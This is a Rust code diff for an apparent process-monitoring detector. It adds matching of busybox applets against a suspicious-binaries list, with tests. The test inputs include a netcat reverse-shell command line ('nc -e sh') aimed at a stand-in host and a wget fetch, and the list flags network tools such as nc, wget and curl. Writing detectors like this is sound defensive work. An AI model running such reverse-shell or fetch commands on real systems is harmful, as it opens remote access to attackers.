@@ -77,6 +77,20 @@ impl Matchers {
             .map(String::as_str)
     }
 
+    /// The `suspicious_binaries` entry a process matches, judged by the program it
+    /// runs: a multi-call binary's applet (`pullwatch_model::applet`), otherwise its
+    /// executable. Returns the entry and the applet it was judged by, if any.
+    pub fn suspicious_process<'c>(
+        &self,
+        exe: &str,
+        cmdline: &'c str,
+    ) -> Option<(&str, Option<&'c str>)> {
+        match pullwatch_model::applet(exe, cmdline) {
+            Some(a) => self.suspicious_binary(a).map(|e| (e, Some(a))),
+            None => self.suspicious_binary(exe).map(|e| (e, None)),
+        }
+    }
+
     pub fn blocked(&self, ip: IpAddr) -> Option<&IpNet> {
         let ip = match ip {
             IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
@@ -122,6 +136,30 @@ mod tests {
         assert_eq!(m.suspicious_binary("python-config"), None);
         assert_eq!(m.suspicious_binary("ncdu"), None);
         assert_eq!(m.suspicious_binary(""), None);
+    }
+
+    #[test]
+    fn multi_call_binaries_are_judged_by_their_applet() {
+        let m = Matchers::new(&Config::default());
+        assert_eq!(m.suspicious_process("/bin/busybox", "ls -l"), None);
+        assert_eq!(m.suspicious_process("/bin/busybox", "cat /etc/hosts"), None);
+        assert_eq!(
+            m.suspicious_process("/bin/busybox", "wget -qO- http://x"),
+            Some(("wget", Some("wget")))
+        );
+        assert_eq!(
+            m.suspicious_process("/bin/busybox", "/bin/busybox nc -e sh x 1"),
+            Some(("nc", Some("nc")))
+        );
+        // Known to have run, with nothing to say which applet: the binary's own entry.
+        assert_eq!(
+            m.suspicious_process("/bin/busybox", ""),
+            Some(("busybox", None))
+        );
+        assert_eq!(
+            m.suspicious_process("/usr/bin/curl", "curl http://x"),
+            Some(("curl", None))
+        );
     }
 
     #[test]
